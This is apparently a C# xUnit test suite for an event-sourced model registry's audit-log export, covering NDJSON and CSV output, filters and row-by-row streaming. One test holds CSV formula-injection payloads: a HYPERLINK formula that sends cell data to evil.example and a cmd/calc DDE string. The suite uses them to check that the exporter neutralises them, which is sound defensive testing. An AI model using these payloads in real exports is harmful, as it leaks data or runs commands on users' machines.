using EventSourcedRegistry.Store;
using System.Diagnostics;
using System.Net.Http.Headers;
using System.Text;
using System.Text.RegularExpressions;
using System.Text.Json.Nodes;
using Alba;
using Xunit.Abstractions;
using EventSourcedRegistry.Api.Tests.Support;
using EventSourcedRegistry.Models;

namespace EventSourcedRegistry.Api.Tests.Audit;

// Beside the "app" collection, on a shared host of its own: one of the longest classes (docs/testing.md "CI time").
[Collection(SecondAppCollection.Name)]
public sealed class when_exporting_the_audit_log(AppFixture app, ITestOutputHelper output) : ApiTest(app)
{
    private const string AwkwardReason = "rolled back, \"quietly\"\nafter the incident; naïve → fixed";

    [Fact]
    public async Task ndjson_holds_every_event_one_item_per_line()
    {
        await SomeHistory();

        var (contentType, text, response) = await Export("application/x-ndjson");

        Assert.Equal("application/x-ndjson", contentType);
        var lines = text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonNode.Parse(l)!).ToList();
        Assert.Equal(await App.Sequences(), lines.Select(l => l["sequence"]!.GetValue<long>()));
        Assert.Equal(AwkwardReason, lines.Single(l => l["eventType"]!.GetValue<string>() == "ModelVersionStageTransitioned")["reason"]!.GetValue<string>());
        var page = await Host.Audit();
        Assert.Equal(page.Items().Select(i => i.ToJsonString()), lines.Select(l => l.ToJsonString()));
        Assert.Equal(lines[^1]["sequence"]!.GetValue<long>().ToString(), response.Headers.GetValues("X-Audit-Complete-Through").Single());
    }

    [Fact]
    public async Task csv_holds_every_event_with_quoting_that_survives_commas_quotes_and_line_breaks()
    {
        await SomeHistory();

        var (contentType, text, _) = await Export("text/csv");

        Assert.Equal("text/csv", contentType);
        var rows = Csv.Rows(text);
        Assert.Equal(["sequence", "timestamp", "modelId", "modelName", "version", "eventType", "actor", "reason", "correlationId", "causationId", "summary"], rows[0]);
        var data = rows.Skip(1).ToList();
        Assert.All(data, r => Assert.Equal(11, r.Count));
        Assert.Equal((await App.Sequences()).Select(s => s.ToString()), data.Select(r => r[0]));
        var transition = data.Single(r => r[5] == "ModelVersionStageTransitioned");
        Assert.Equal(AwkwardReason, transition[7]);
        Assert.Equal("1", transition[4]);
        Assert.Equal("version 1: None → Staging", transition[10]);
        Assert.True(DateTimeOffset.TryParse(transition[1], out _));
    }

    /// <summary>Cells a spreadsheet would run as formulas (issue 13, item 7), each with the value it must keep.</summary>
    private static readonly string[] FormulaReasons =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1",
        "'=already quoted", "''@twice", "'plain", "a=1 is fine",
    ];

    [Fact]
    public async Task csv_neutralises_formulas_in_text_cells_and_ndjson_keeps_every_value_byte_for_byte()
    {
        await Host.RegisterModel("churn");
        await Host.RegisterVersion("churn");
        var stage = "Staging";
        foreach (var reason in FormulaReasons)
        {
            var moved = await Host.Promote("churn", 1, stage, reason: reason,
                headers: new Dictionary<string, string> { ["X-Correlation-Id"] = "=1+" + reason.Length });
            Assert.Equal(200, moved.Status);
            stage = stage == "Staging" ? "None" : "Staging";
        }
        await Store.WaitForAuditTrail();

        var csv = Csv.Rows((await Export("text/csv")).Text).Skip(1).Where(r => r[5] == "ModelVersionStageTransitioned").ToList();
        var ndjson = (await Export("application/x-ndjson")).Text.Split('\n', StringSplitOptions.RemoveEmptyEntries)
            .Select(l => JsonNode.Parse(l)!).Where(l => l["eventType"]!.GetValue<string>() == "ModelVersionStageTransitioned").ToList();

        Assert.Equal(FormulaReasons.Take(6).Select(r => "'" + r).Concat(["''=already quoted", "'''@twice", "'plain", "a=1 is fine"]),
            csv.Select(r => r[7]));
        Assert.Equal(FormulaReasons.Select(r => "'=1+" + r.Length), csv.Select(r => r[8]));
        Assert.Equal(FormulaReasons, ndjson.Select(l => l["reason"]!.GetValue<string>()));
        Assert.Equal(FormulaReasons.Select(r => "=1+" + r.Length), ndjson.Select(l => l["correlationId"]!.GetValue<string>()));
        // Undoing the rule (one ' off a cell of 's before a formula character) gives back every value exactly.
        Assert.Equal(FormulaReasons, csv.Select(r => Regex.IsMatch(r[7], "^'+[=+\\-@\t\r]") ? r[7][1..] : r[7]));
    }

    [Fact]
    public async Task the_format_parameter_and_filters_apply_to_exports_too()
    {
        await SomeHistory();

        var (contentType, text, _) = await Export(null, "?format=csv&type=ModelVersionRegistered");

        Assert.Equal("text/csv", contentType);
        Assert.Equal(2, Csv.Rows(text).Count - 1);
    }

    /// <summary>
    /// 100,000 events, projected by the daemon, then exported over HTTP. While the client holds back after its first
    /// line, PostgreSQL is still sending the result: the server writes rows as it reads them (and back-pressure stops
    /// it); it does not collect the export before answering. Then every line is read and checked.
    /// </summary>
    [Fact]
    public async Task an_export_of_100000_events_streams_row_by_row()
    {
        const int templateStreams = 10, eventsPerStream = 100, copies = 100, total = templateStreams * eventsPerStream * copies;
        var clock = Stopwatch.StartNew();
        var template = new List<Guid>();
        await using (var session = Store.LightweightSession(WorkspaceId.Default.TenantId))
        {
            for (var s = 0; s < templateStreams; s++)
            {
                var id = Guid.NewGuid();
                template.Add(id);
                var events = new List<object> { new ModelRegistered(id, $"bulk-{s}", null, new Dictionary<string, string>()) };
                for (var e = 1; e < eventsPerStream; e++)
                    events.Add(new ModelMetadataEdited(id, $"edit {e}", new Dictionary<string, string>(), []));
                session.Events.StartStream(id, events);
            }
            await session.SaveChangesAsync();
        }
        // Appending 100,000 events through sessions takes most of a minute on a busy 2-core machine, so the other 99
        // copies are cloned in SQL from the rows Marten wrote: the same stored shape, each copy a stream of its own.
        await App.Sql($$"""
            begin;
            create temp table copies on commit drop as select n, gen_random_uuid() as stream_id, t.id as template
              from generate_series(1, {{copies - 1}}) n, unnest('{{{string.Join(",", template)}}}'::uuid[]) as t(id);
            insert into registry.mt_streams (id, type, version, timestamp, created, tenant_id, is_archived)
              select c.stream_id, s.type, s.version, now(), now(), s.tenant_id, false
              from copies c join registry.mt_streams s on s.id = c.template;
            insert into registry.mt_events (seq_id, id, stream_id, version, data, type, timestamp, tenant_id, mt_dotnet_type,
                                            correlation_id, causation_id, headers, user_name, is_archived)
              select nextval('registry.mt_events_sequence_default'), gen_random_uuid(), c.stream_id, e.version,
                     jsonb_set(e.data, '{modelId}', to_jsonb(c.stream_id)), e.type, now(), e.tenant_id, e.mt_dotnet_type,
                     e.correlation_id, e.causation_id, e.headers, e.user_name, false
              from copies c join registry.mt_events e on e.stream_id = c.template
              order by c.n, c.template, e.version;
            commit;
            """);
        var appended = clock.Elapsed;
        await Store.WaitForAuditTrail();
        var projected = clock.Elapsed - appended;

        using var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/audit");
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("application/x-ndjson"));
        using var response = await Host.Client().SendAsync(request, HttpCompletionOption.ResponseHeadersRead);
        Assert.Equal(200, (int)response.StatusCode);
        var sequences = await App.SqlList<long>("select min(seq_id) from registry.mt_events union all select max(seq_id) from registry.mt_events");
        Assert.Equal(sequences[1].ToString(), response.Headers.GetValues("X-Audit-Complete-Through").Single());
        await using var body = await response.Content.ReadAsStreamAsync();
        using var reader = new StreamReader(body, Encoding.UTF8);

        var first = JsonNode.Parse((await reader.ReadLineAsync())!)!;
        Assert.Equal(sequences[0], first["sequence"]!.GetValue<long>());
        Assert.True(await ExportQueryStillRunning(), "after the first line, the export's query should still be streaming from PostgreSQL");

        var exportClock = Stopwatch.StartNew();
        long count = 1, previous = sequences[0];
        while (await reader.ReadLineAsync() is { } line)
        {
            var sequence = ReadSequence(line);
            Assert.True(sequence > previous, $"sequence {sequence} after {previous}");
            previous = sequence;
            count++;
        }
        Assert.Equal(total, count);
        output.WriteLine($"appended in {appended}, projected in {projected}, exported in {exportClock.Elapsed}");
    }

    private async Task<bool> ExportQueryStillRunning()
    {
        // The server is blocked writing to a client that does not read: its query stays active in PostgreSQL.
        for (var attempt = 0; attempt < 50; attempt++)
        {
            var active = await App.SqlList<string>(
                "select state from pg_stat_activity where query like 'select seq_id, timestamp, model_id%' and pid <> pg_backend_pid()");
            if (active.Contains("active")) return true;
            await Task.Delay(100);
        }
        return false;
    }

    private static long ReadSequence(string line)
    {
        // {"sequence":123,... : cheaper than parsing 100,000 documents, and still checks every line.
        const string prefix = "{\"sequence\":";
        Assert.StartsWith(prefix, line);
        var end = line.IndexOf(',', prefix.Length);
        return long.Parse(line.AsSpan(prefix.Length, end - prefix.Length));
    }

    private async Task SomeHistory()
    {
        await Host.RegisterModel("churn");
        await Host.RegisterVersion("churn");
        await Host.RegisterVersion("churn");
        var promoted = await Host.Promote("churn", 1, "Staging", reason: AwkwardReason);
        Assert.Equal(200, promoted.Status);
        await Store.WaitForAuditTrail();
    }

    private async Task<(string? ContentType, string Text, HttpResponseMessage Response)> Export(string? accept, string query = "")
    {
        var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/audit" + query);
        if (accept is not null) request.Headers.Accept.ParseAdd(accept);
        var response = await Host.Client().SendAsync(request);
        Assert.Equal(200, (int)response.StatusCode);
        return (response.Content.Headers.ContentType?.MediaType, await response.Content.ReadAsStringAsync(), response);
    }
}
